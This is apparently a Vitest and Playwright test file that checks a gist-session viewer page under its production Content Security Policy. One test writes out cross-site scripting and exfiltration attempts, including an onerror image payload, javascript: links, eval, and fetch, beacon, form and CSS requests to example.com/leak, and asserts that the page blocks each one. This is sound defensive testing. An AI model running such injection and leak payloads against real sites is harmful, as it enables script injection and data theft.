import { cp, readFile, realpath, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { freshDatabase } from '#sql/testing.ts';
import { writeParquetOf } from '../../actions/export/parquet/testing-places.ts';
import { freePort, type RunningProgram, runProgram, startProgram } from '../../actions/testing.ts';
import { published } from './behind-the-page.ts';
import { useBrowser } from './browser.ts';
import { writeGist } from './gists.ts';
import { hostileFiles } from './hostile-corpus.ts';
import { problems } from './problems.ts';
import { readAll } from './read-all.ts';

const dev = inject('dev');
const rawHost = 'https://gist.githubusercontent.com';
const api = 'https://api.github.com';
/** Where a page should never send anything; answered by the test, which notes what comes. */
const elsewhere = 'https://example.com';
const open = useBrowser({ answered: [rawHost, api, elsewhere] });
const [hostile] = hostileFiles();
const { name, text, marks } = hostile ?? { name: '', text: '', marks: [] };
const gist = await writeGist(dev.gists, 'packed', 'session', {
  title: 'In production',
  files: { [name]: text },
});

let database: Awaited<ReturnType<typeof freshDatabase>>;
let site: RunningProgram;
let address: string;
let revision = '';

beforeAll(async () => {
  [revision = ''] = await published(await open(), await open(), dev, [gist]);
  address = `http://127.0.0.1:${await freePort()}`;
  const settings = { SITE_URL: address, DATASET_OUTPUT_DIR: await datasetOfGitHub() };
  await runProgram('build', [], { cwd: dev.folder, env: settings });
  database = await freshDatabase();
  const secrets = {
    DATABASE_URL: database.url,
    SESSION_SECRET: 'of the tests, and long enough to be one',
    GITHUB_CLIENT_ID: 'tests',
    GITHUB_CLIENT_SECRET: 'of the tests',
    MODERATOR_GITHUB_IDS: '1',
  };
  site = await startProgram('start', ['--port', new URL(address).port, '--drain', '0'], {
    cwd: dev.folder,
    env: { ...settings, ...secrets },
    ready: /Serving (http:\S+) on/,
  });
});
afterAll(async () => {
  await site?.stop();
  await database?.close();
});

/** The published files, as if the gists in them were at GitHub. */
async function datasetOfGitHub(): Promise<string> {
  const folder = join(dev.folder, '.dataset-of-github');
  await cp(join(dev.folder, '.dataset'), folder, { recursive: true, verbatimSymlinks: true });
  const rows = join(folder, 'latest/submissions.ndjson');
  const atGitHub = (await readFile(rows, 'utf8')).replaceAll(
    /"raw_url":"http:\/\/127\.0\.0\.1:\d+/g,
    `"raw_url":"${rawHost}`,
  );
  await writeFile(rows, atGitHub);
  await writeParquetOf(await realpath(join(folder, 'latest')));
  return folder;
}

/** Opens the session as production serves it, with GitHub's hosts answered by the test. */
async function openSession(): Promise<{ page: Page; violations: string[]; sent: string[] }> {
  const page = await open({ viewport: { width: 1280, height: 2400 } });
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(error.message));
  page.on('dialog', (dialog) => {
    violations.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const cors = { 'access-control-allow-origin': '*' };
  const bytes = await readFile(join(dev.gists, gist.login, 'session', name));
  await page.route(`${rawHost}/**`, (route) => route.fulfill({ headers: cors, body: bytes }));
  await page.route(`${api}/**`, (route) =>
    route.fulfill({ headers: cors, json: { public: true, history: [{ version: revision }] } }),
  );
  const sent: string[] = [];
  await page.route(`${elsewhere}/**`, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ headers: cors, body: '' });
  });
  await page.goto(`${address}/sessions/${gist.id}`);
  await page.getByText('Checked: these are the bytes git names.').waitFor();
  return { page, violations, sent };
}

test('under the policy of production a hostile session is read, unfolded and found in, and breaks nothing of it', async () => {
  const { page, violations } = await openSession();
  const { flaws, shown } = await page.evaluate(readAll);
  expect(flaws).toEqual([]);
  expect(marks.filter((mark) => !shown.includes(mark))).toEqual([]);
  await page.getByRole('searchbox').fill(marks.at(-1) ?? '');
  await page.getByRole('searchbox').press('Enter');
  await page.locator('output', { hasText: 'Row 1 of' }).waitFor();
  expect(violations).toEqual([]);
}, 180_000);

test('the page runs one script, which its hash names, and a worker under the same policy', async () => {
  const { page, sent } = await openSession();
  const scripts = await page.locator('script').evaluateAll((all) =>
    all.map((each) => ({
      src: each.getAttribute('src'),
      integrity: each.getAttribute('integrity'),
      text: each.textContent,
    })),
  );
  expect(scripts).toEqual([
    {
      src: expect.stringMatching(/^\/_astro\/viewer/),
      integrity: expect.stringMatching(/^sha384-/),
      text: '',
    },
  ]);
  const policy = (await page.request.get(page.url())).headers()['content-security-policy'];
  // Other pages have the other scripts of the site.
  expect(policy).toMatch(/script-src(?: 'sha384-[\w+/=]+')+;/);
  expect(policy).toContain(`'${scripts[0]?.integrity}'`);
  expect(policy).toContain(`connect-src 'self' ${rawHost} ${api};`);
  expect(policy).not.toMatch(/unsafe|\*|data:|blob:/);
  const [worker] = page.workers();
  if (!worker) throw new Error('nothing reads');
  expect(new URL(worker.url()).origin).toBe(address);
  expect((await page.request.get(worker.url())).headers()['content-security-policy']).toBe(policy);
  const reached = (url: string) =>
    worker.evaluate(
      (to) =>
        fetch(to).then(
          () => 'sent',
          () => 'refused',
        ),
      url,
    );
  expect(await reached('https://example.com/leak')).toBe('refused');
  expect(sent).toEqual([]);
});

test('what got into the page all the same does not run and sends nothing', async () => {
  const { page, violations, sent } = await openSession();
  const ran = await page.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      'inline script': () => {
        const script = document.createElement('script');
        script.append('window.pwned = 1');
        document.body.append(script);
      },
      'script of ours': () => {
        const script = document.createElement('script');
        script.setAttribute('src', '/_astro/other.js');
        document.body.append(script);
      },
      markup: () => {
        document.body.innerHTML = '<img src=x onerror="window.pwned = 1">';
      },
      handler: () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.pwned = 1');
        document.body.append(button);
        button.click();
      },
      eval: () => Reflect.get(window, 'eval')('window.pwned = 1'),
      link: () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.pwned = 1';
        document.body.append(link);
        link.click();
      },
      frame: () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://example.com/';
        document.body.append(frame);
      },
      image: () => {
        new Image().src = 'https://example.com/leak.png';
      },
      beacon: () => navigator.sendBeacon('https://example.com/leak', 'x'),
      request: () => fetch('https://example.com/leak').catch(() => {}),
      style: () => document.body.setAttribute('style', 'background: url(https://example.com/leak.png)'),
      form: () => {
        const form = document.createElement('form');
        form.action = 'https://example.com/leak';
        document.body.append(form);
        form.submit();
      },
      base: () => {
        const base = document.createElement('base');
        base.href = 'https://example.com/';
        document.head.append(base);
      },
      worker: () => new Worker('data:text/javascript,1'),
    };
    const stopped: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      stopped.push(effectiveDirective),
    );
    const thrown: string[] = [];
    // What the browser is told from outside may use eval; from here on it is the page that speaks.
    await new Promise((resolve) => setTimeout(resolve));
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
      } catch {
        thrown.push(name);
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return {
      pwned: Reflect.get(window, 'pwned'),
      base: document.baseURI,
      thrown,
      stopped: [...new Set(stopped)].sort(),
    };
  });
  expect(ran).toEqual({
    pwned: undefined,
    base: page.url(),
    thrown: expect.arrayContaining(['script of ours', 'markup', 'handler', 'eval', 'worker']),
    stopped: expect.arrayContaining([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
    ]),
  });
  expect(sent).toEqual([]);
  expect(page.url()).toBe(`${address}/sessions/${gist.id}`);
  expect(violations.length).toBeGreaterThan(0);
});

test('a session that is read has no trouble in production, whoever reads it', async () => {
  const { page, violations } = await openSession();
  expect(await problems(page)).toEqual([]);
  expect(violations).toEqual([]);
});
